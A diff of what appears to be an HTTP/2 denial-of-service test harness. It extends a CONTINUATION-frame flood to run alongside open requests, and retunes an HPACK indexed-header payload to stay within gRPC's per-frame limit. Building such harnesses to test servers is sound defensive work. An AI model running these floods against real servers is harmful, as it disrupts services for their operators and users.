@@ -77,10 +77,11 @@ def half_messages(port, _scene=None):
     return [client]
 
 
-def headers_without_end(first, block, count):
+def headers_without_end(first, block, count, requests=0):
     def attack(port, _scene=None):
-        """CONTINUATION frames until the server closes the connection."""
+        """CONTINUATION frames until the server closes the connection, beside requests that have begun."""
         client, sent = Connection(port), 0
+        client.send(b"".join(call(client, IRRADIANCE) for _ in range(requests)))
         client.send(frame(HEADERS, 0, client.stream(), headers_of(IRRADIANCE) + first))
         frames = frame(CONTINUATION, 0, client.next - 2, block) * count
         while sent < MOST_BYTES and client.send(frames):
@@ -123,7 +124,8 @@ ATTACKS = {
     "empty_frames_of_headers": headers_without_end(b"", b"", 20000),
     # of 1 GiB
     "long_header": headers_without_end(b"\0\3x-a\x7f\x81\xff\xff\xff\x03", b"b" * 16000, 50),
-    "referring_headers": headers_without_end(b"\x40" + literal("x-a", "b" * 100)[1:], b"\xbe" * 16000, 50),
+    # Each byte is a header.  120 of them are within gRPC's limit, which counts by frame.
+    "referring_headers": headers_without_end(b"\x40" + literal("x-a", "b" * 100)[1:], b"\xbe" * 120, 5000, 3),
     "pings": pings,
     # count = 65536: 4 MB
     "unread_samples": unread(SAMPLE_LE, b"\x18\x80\x80\x04", 200),
